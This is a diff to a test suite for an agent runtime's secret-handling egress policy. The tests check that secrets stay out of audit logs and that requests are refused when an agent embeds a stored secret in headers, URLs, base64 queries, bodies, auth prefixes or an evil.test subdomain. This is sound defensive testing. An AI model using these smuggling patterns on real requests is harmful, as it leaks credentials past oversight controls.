@@ -66,13 +66,16 @@ describe('net.fetch with named secrets', () => {
     port = await listen(server);
     otherPort = await listen(other);
     tree = tempTree('oracle-net-secrets-');
+    tree.dir('projects');
     const policy = [
+      'scopes:',
+      `  projects: { roots: [{ path: "${tree.root}/projects", mode: rw }] }`,
       'egress:',
       `  allow: [{ host: "127.0.0.1:${String(port)}", why: local test server }, { host: "127.0.0.1:${String(otherPort)}", why: another origin }, { host: "plain.example.com:*", why: any port }]`,
       'principals:',
       '  agents:',
       '    fetcher: { capabilities: [net.egress] }',
-      '    keyed: { capabilities: [net.egress, secret.read] }',
+      '    keyed: { capabilities: [net.egress, secret.read, fs.read] }',
       '',
     ].join('\n');
     runtime = await runtimeFor(tree, policy, { resolve: () => Promise.reject(new Error('no DNS for IP literals')) });
@@ -214,6 +217,17 @@ describe('net.fetch with named secrets', () => {
     }
   });
 
+  it('hides a stored value in what any record of the log quotes, such as an error naming a path', async () => {
+    const missing = `${tree.root}/projects/${value}.txt`;
+    const result = await runtime.submit({ tool: 'fs.read', args: { path: missing } }, 0, 'keyed');
+    expect(result.executed, JSON.stringify(result)).toBe(true);
+    expect(result.error?.message).toContain(value);
+    const log = join(runtime.gate.home, 'logs', 'audit');
+    const lines = readdirSync(log).flatMap((name) => readFileSync(join(log, name), 'utf8').split('\n'));
+    expect(lines.filter((line) => line.includes(String(result.action_id))).length).toBeGreaterThan(1);
+    expect(lines.filter((line) => line.includes(value))).toEqual([]);
+  });
+
   it('refuses a missing secret without sending anything', async () => {
     const before = seen.length;
     const { result } = await approved(fetchWith({ secrets: { 'x-api-key': { name: 'nope' } } }));
@@ -221,21 +235,30 @@ describe('net.fetch with named secrets', () => {
     expect(seen).toHaveLength(before);
   });
 
-  it('refuses a stored value the model wrote itself, in a header, the URL, a body or a header name, before anyone is asked', async () => {
+  it('refuses a stored value the model wrote itself, in a header, the URL, a body, a header name or a prefix, before anyone is asked', async () => {
     const before = seen.length;
+    // Short enough to be a `prefix` (an auth scheme word).
+    const shortValue = 'PrefixKept-0451abc';
+    await runtime.toolhost.env.secrets?.set(`${SECRET}-short`, shortValue);
     const written = [
       { headers: { 'x-note': value } },
       { url: url(`/echo?k=${value}`) },
       { url: url(`/echo?k=${encodeURIComponent(Buffer.from(value).toString('base64'))}`) },
       { method: 'POST', body: `{"key":"${value}"}` },
       { secrets: { [`x-${value}`]: { name: SECRET } } },
+      { headers: { [value]: 'x' } },
+      // Refused for the host too; the stored value is what is said, so no reason quotes it.
+      { url: `https://${value}.evil.test/` },
+      { secrets: { Authorization: { name: SECRET, prefix: `${shortValue} ` } } },
     ];
     for (const args of written) {
       const result = await runtime.submit(fetchWith(args), 5000, 'keyed');
       expect(result, JSON.stringify(args)).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED', executed: false });
       expect(result.reasons.at(-1)).toMatch(/holds the value of a secret in ORACLE's store/u);
       expect(JSON.stringify(result.reasons)).not.toContain(value);
+      expect(JSON.stringify(result.reasons)).not.toContain(shortValue);
     }
+    await runtime.toolhost.env.secrets?.delete(`${SECRET}-short`);
     expect(runtime.desk.list().filter((c) => c.state === 'pending'), 'nobody was asked').toEqual([]);
     expect(seen, 'the listener got none of them').toHaveLength(before);
     const log = join(runtime.gate.home, 'logs', 'audit');
